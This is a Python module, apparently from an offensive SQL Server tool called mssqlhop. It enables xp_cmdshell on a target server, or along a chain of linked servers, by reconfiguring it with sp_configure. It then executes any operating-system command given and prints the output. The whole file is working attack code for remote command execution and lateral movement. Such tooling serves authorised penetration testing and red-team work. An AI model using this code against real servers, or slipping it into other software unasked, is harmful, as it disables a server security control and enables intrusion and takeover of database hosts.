# Built-in imports
from typing import Optional, List

# Third-party imports
from loguru import logger

# Local imports
from mssqlhop.core.actions.base import BaseAction
from mssqlhop.core.actions.factory import ActionFactory
from mssqlhop.core.models.linked_servers import ChainMode
from mssqlhop.core.services.database import DatabaseContext
from mssqlhop.core.utils.misc import escape_literal

ENABLE_XP_CMDSHELL = (
    "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; "
    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;"
)


@ActionFactory.register("xpcmd", "Execute operating system commands via xp_cmdshell")
class XpCmd(BaseAction):
    """
    Execute operating system commands on the SQL Server using xp_cmdshell.

    This action enables xp_cmdshell if it's disabled, executes the provided
    command, and returns the output line by line. Reconfiguring a linked
    server requires RPC Out on every link of the chain.
    """

    def __init__(self):
        super().__init__()
        self._command: str = ""

    def validate_arguments(
        self, additional_arguments: str = "", argument_list: Optional[List[str]] = None
    ) -> None:
        if argument_list is not None:
            additional_arguments = " ".join(argument_list)

        if not additional_arguments or not additional_arguments.strip():
            raise ValueError("xpcmd action requires a command to execute.")

        self._command = additional_arguments.strip()

    def _ensure_enabled(self, database_context: DatabaseContext) -> bool:
        value = database_context.query_service.execute_scalar(
            "SELECT CAST(value_in_use AS INT) FROM sys.configurations WHERE name = 'xp_cmdshell';"
        )
        if value is not None and int(value) == 1:
            return True

        logger.info("Enabling 'xp_cmdshell'")
        # RECONFIGURE cannot run inside OPENQUERY
        return (
            database_context.query_service.execute_non_processing(
                ENABLE_XP_CMDSHELL, mode=ChainMode.REMOTE_PROCEDURE_CALL
            )
            >= 0
        )

    def execute(self, database_context: DatabaseContext) -> Optional[List[str]]:
        """
        Execute the provided shell command on the SQL Server using xp_cmdshell.

        Returns:
            A list of strings containing the command output, or None on error
        """
        logger.info(f"Executing command: {self._command}")

        try:
            if not self._ensure_enabled(database_context):
                logger.error("Failed to enable 'xp_cmdshell'.")
                return None

            query = f"EXEC master..xp_cmdshell '{escape_literal(self._command)}'"
            result = database_context.query_service.execute(
                query, tuple_mode=True, mode=ChainMode.REMOTE_PROCEDURE_CALL
            )
        except Exception as ex:
            error_message = str(ex)
            if "proxy account" in error_message:
                logger.error("xp_cmdshell proxy account is not configured or invalid.")
            else:
                logger.error(f"Error executing xp_cmdshell: {ex}")
            return None

        output_lines: List[str] = []

        if not result:
            logger.warning("The command executed but returned no results.")
            return output_lines

        print()
        for row in result:
            output = row[0]
            if output is None:
                continue
            output = str(output).rstrip()
            if output and output.upper() != "NULL":
                print(output)
                output_lines.append(output)

        return output_lines

    def get_arguments(self) -> List[str]:
        return ["Operating system command to execute via xp_cmdshell"]
